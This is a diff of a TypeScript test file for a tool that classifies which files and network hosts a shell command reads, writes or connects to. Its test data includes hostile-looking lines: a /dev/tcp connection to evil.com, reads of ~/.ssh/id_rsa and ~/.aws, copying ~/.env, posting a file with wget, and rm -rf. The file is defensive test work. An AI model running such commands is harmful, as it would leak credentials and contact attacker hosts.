@@ -1,12 +1,19 @@
 import fc from "fast-check";
 import { describe, expect, test } from "vitest";
 import { accessesOf, type ShellAccess } from "./accesses.ts";
-import { commandsOf, type Word } from "./commands.ts";
+import { commandsOf, type Word } from "../commands.ts";
 
-/** An access in short: `r path`, `w path`, `c host:port`. A home directory is `~`, a plain tilde `\~`, a pattern `{}`. */
+/**
+ * An access in short: `r path`, `w path`, `c host:port`, `? kind part`. `**` behind the letter: with all below; `*`: the
+ * names of all below; `~`: guessed. A home directory is `~`, a plain tilde `\\~`, a pattern `{}`.
+ */
 function short(access: ShellAccess): string {
-  if (access.action !== "connect") return `${access.action[0] ?? ""} ${shortWord(access.path)}`;
-  return `c ${access.host}${access.port === undefined ? "" : ` ${String(access.port)}`}`;
+  if (access.action === "unknown") return `? ${access.doubt.kind} ${access.doubt.part}`;
+  if (access.action === "connect")
+    return `c ${access.host}${access.port === undefined ? "" : ` ${String(access.port)}`}`;
+  const reach = access.reach === undefined ? "" : access.reach === "tree" ? "**" : "*";
+  const guessed = access.guessed === true ? "~" : "";
+  return `${access.action[0] ?? ""}${reach}${guessed} ${shortWord(access.path)}`;
 }
 
 function shortWord(word: Word): string {
@@ -45,7 +52,7 @@ const REDIRECTIONS: readonly Row[] = [
   ["unknown > /dev/null 2> /dev/stderr < /dev/stdin"],
   ["unknown <<< text"],
   ["cat <<E\nx\nE"],
-  ['unknown > "$x"'],
+  ['unknown > "$x"', "w {*}"],
   ['unknown > "$x/log"', "w {*/log}"],
   ["unknown < /dev/tcp/evil.com/80", "c evil.com 80"],
   ["exec 3<>/dev/udp/10.0.0.1/53", "c 10.0.0.1 53"],
@@ -64,7 +71,7 @@ const READERS: readonly Row[] = [
   ['cat "$HOME/.ssh/id_rsa"', "r ~/.ssh/id_rsa"],
   ['cat "$HOME"x/f', "r {*x/f}"],
   ["cat '~/x'", "r \\~/x"],
-  ["cat $x"],
+  ["cat $x", "r {*}"],
   ["cat *", "r {*}"],
   ["cat ~/.ssh/*.pub", "r {~/.ssh/*.pub}"],
   ["cat {a,b}.txt", "r a.txt", "r b.txt"],
@@ -105,30 +112,30 @@ const READERS: readonly Row[] = [
   ["stat f"],
   ["ls", "r ."],
   ["ls -la d", "r d"],
-  ["du -sh d", "r d"],
-  ["du -d 1", "r ."],
-  ["tree -L 2 d", "r d"],
+  ["du -sh d", "r* d"],
+  ["du -d 1", "r* ."],
+  ["tree -L 2 d", "r* d"],
   ["source .env", "r .env"],
   [". ./x.sh arg", "r ./x.sh"],
-  ["xargs -a list rm", "r list"],
-  ["xargs -I{} cp {} d/f", "w d/f"],
+  ["xargs -a list rm", "r list", "? path list", "w {*}"],
+  ["xargs -I{} cp {} d/f", "r {*}", "w d/f"],
 ];
 
 const SEARCHES: readonly Row[] = [
   ["grep foo a b", "r a", "r b"],
-  ["grep -rn foo src", "r src"],
-  ["grep -r foo", "r ."],
+  ["grep -rn foo src", "r** src"],
+  ["grep -r foo", "r** ."],
   ["unknown | grep foo"],
   ["grep -e foo a", "r a"],
   ["grep -f patterns a", "r patterns", "r a"],
   ["grep -A 3 foo a", "r a"],
-  ["grep --include '*.ts' foo -r src", "r src"],
+  ["grep --include '*.ts' foo -r src", "r** src"],
   ["egrep foo a", "r a"],
-  ["rg foo src", "r src"],
-  ["rg -g '*.ts' -e foo src", "r src"],
-  ["rg --files src", "r src"],
+  ["rg foo src", "r** src"],
+  ["rg -g '*.ts' -e foo src", "r** src"],
+  ["rg --files src", "r** src"],
   ["rg -t ts foo"],
-  ["ag -G x foo src", "r src"],
+  ["ag -G x foo src", "r** src"],
   ["sed -n 1,5p f", "r f"],
   ["sed -i s/a/b/ f", "r f", "w f"],
   ["sed -i.bak s/a/b/ f", "r f", "w f", "w f.bak"],
@@ -150,7 +157,7 @@ const SEARCHES: readonly Row[] = [
 ];
 
 const FILES: readonly Row[] = [
-  ["rm -rf a b", "w a", "w b"],
+  ["rm -rf a b", "w** a", "w** b"],
   ["rm -- -x", "w -x"],
   ["rmdir d", "w d"],
   ["unlink f", "w f"],
@@ -160,10 +167,10 @@ const FILES: readonly Row[] = [
   ["mkdir -p -m 700 d/e", "w d/e"],
   ["mktemp"],
   ["chmod 600 f", "w f"],
-  ["chmod -R u+x d", "w d"],
+  ["chmod -R u+x d", "w** d"],
   ["chmod -x f", "w f"],
   ["chmod +x f", "w f"],
-  ["chown -R me:me d", "w d"],
+  ["chown -R me:me d", "w** d"],
   ["chgrp --reference=r f", "r r", "w f"],
   ["tee a b", "w a", "w b"],
   ["echo x | sudo tee -a /etc/hosts", "w /etc/hosts"],
@@ -172,9 +179,9 @@ const FILES: readonly Row[] = [
   ["cp ~/.env /tmp/", "r ~/.env", "w /tmp/", "w /tmp/.env"],
   ["cp -t d a", "r a", "w d", "w d/a"],
   ["cp --target-directory=d a", "r a", "w d", "w d/a"],
-  ["cp $x dest", "w dest"],
-  ["mv a b", "r a", "w a", "w b"],
-  ["mv a .", "r a", "w a", "w .", "w ./a"],
+  ["cp $x dest", "r {*}", "w dest"],
+  ["mv a b", "r** a", "w** a", "w b"],
+  ["mv a .", "r** a", "w** a", "w .", "w ./a"],
   ["ln -s /etc/passwd link", "r /etc/passwd", "w link"],
   ["ln -s ../x d/link", "r d/../x", "w d/link"],
   ["ln -s /a/b", "r /a/b", "w b"],
@@ -184,11 +191,11 @@ const FILES: readonly Row[] = [
   ["dd of=~/x", "w ~/x"],
   ["split -l 10 f", "r f", "w xaa"],
   ["split f part-", "r f", "w part-aa"],
-  ["find", "r ."],
-  ["find ~/.aws -type f", "r ~/.aws"],
-  ["find a b -name x -delete", "r a", "w a", "r b", "w b"],
-  ["find a -fprint out", "r a", "w out"],
-  ["find a -exec cp b c ';' -delete", "r a", "w a", "r b", "w c"],
+  ["find", "r* ."],
+  ["find ~/.aws -type f", "r* ~/.aws"],
+  ["find a b -name x -delete", "r* a", "r* b", "r {a/**/x}", "w {a/**/x}", "r {b/**/x}", "w {b/**/x}"],
+  ["find a -fprint out", "r* a", "w out"],
+  ["find a -exec cp b c ';' -delete", "r* a", "r** a", "w** a", "r b", "w c"],
   ["vim +10 f", "r f", "w f"],
   ["vim -R f", "r f"],
   ["vim -es +q f", "r f", "w f"],
@@ -199,11 +206,11 @@ const FILES: readonly Row[] = [
   ["tar -xzf a.tgz -C d", "r a.tgz", "w d"],
   ["tar -xf a.tar f", "r a.tar", "w f"],
   ["tar tf a.tar", "r a.tar"],
-  ["tar -czf out.tgz a b", "w out.tgz", "r a", "r b"],
-  ["tar czf out.tgz -C d a", "w out.tgz", "r d/a"],
-  ["tar cf - d | unknown", "r d"],
-  ["tar --create --file=o --exclude x d", "w o", "r d"],
-  ["zip -r out d", "w out.zip", "r d"],
+  ["tar -czf out.tgz a b", "w out.tgz", "r** a", "r** b"],
+  ["tar czf out.tgz -C d a", "w out.tgz", "r** d/a"],
+  ["tar cf - d | unknown", "r** d"],
+  ["tar --create --file=o --exclude x d", "w o", "r** d"],
+  ["zip -r out d", "w out.zip", "r** d"],
   ["zip out.zip a -x '*.o' b", "w out.zip", "r a"],
   ["unzip a.zip -d d", "r a.zip", "w d"],
   ["unzip -l a.zip", "r a.zip"],
@@ -246,7 +253,7 @@ const INTERPRETERS: readonly Row[] = [
   ["docker run -v a:b c"],
   ["npm install"],
   ["npm run test -- f"],
-  ["unknown a b"],
+  ["unknown a b", "w~ a", "w~ b"],
   ["$x a b"],
 ];
 
@@ -278,15 +285,15 @@ const HOSTS: readonly Row[] = [
   ["curl https://h.com/$x", "c h.com 443"],
   ['curl "https://u:$TOKEN@h.com/x"', "c h.com 443"],
   ['curl "https://h.com:$PORT/"', "c h.com"],
-  ['curl "https://$host/x"'],
-  ['curl "https://h.com$x/y"'],
+  ['curl "https://$host/x"', '? host "https://$host/x"'],
+  ['curl "https://h.com$x/y"', '? host "https://h.com$x/y"'],
   ["curl https://h.com/a?b=c", "c h.com 443"],
   ["curl -X POST -H 'A: b' -u a:b https://h.com", "c h.com 443"],
   ["wget https://h.com/a/b.tgz", "c h.com 443", "w b.tgz"],
   ["wget -qO- h.com", "c h.com 80"],
   ["wget -O out https://h.com", "c h.com 443", "w out"],
   ["wget -P d https://h.com/f", "c h.com 443", "w d/f"],
-  ["wget -i list", "r list"],
+  ["wget -i list", "r list", "? host list"],
   ["wget --post-file=f -O - https://h.com", "r f", "c h.com 443"],
   ["wget https://h.com", "c h.com 443", "w index.html"],
   ["git clone https://h.com/a/b.git", "c h.com 443", "w b"],
@@ -318,9 +325,9 @@ const HOSTS: readonly Row[] = [
   ["scp f me@h.com:x", "r f", "c h.com 22"],
   ["scp -P 2222 h.com:x f", "c h.com 2222", "w f"],
   ["sftp -b batch h.com", "r batch", "c h.com 22"],
-  ["rsync -a d/ h.com:d", "r d/", "c h.com 22"],
+  ["rsync -a d/ h.com:d", "r** d/", "c h.com 22"],
   ["rsync -e 'ssh -p 2222' h.com:d .", "c h.com 2222", "w ."],
-  ["rsync -a a b", "r a", "w b"],
+  ["rsync -a a b", "r** a", "w b"],
   ["rsync rsync://h.com/m d", "c h.com 873", "w d"],
   ["rsync --exclude-from=x h.com::m d", "r x", "c h.com 873", "w d"],
   ["nc h.com 80", "c h.com 80"],
@@ -393,7 +400,7 @@ describe("properties", () => {
     const words = ALL.flatMap(([line]) => line.split(" "));
     fc.assert(
       fc.property(fc.array(fc.constantFrom(...words), { maxLength: 12 }), (some) => {
-        for (const one of accesses(some.join(" "))) expect(one).toMatch(/^[rwc] ./);
+        for (const one of accesses(some.join(" "))) expect(one).toMatch(/^([rw][*~]*|[c?]) ./);
       }),
       { numRuns: 3000 },
     );
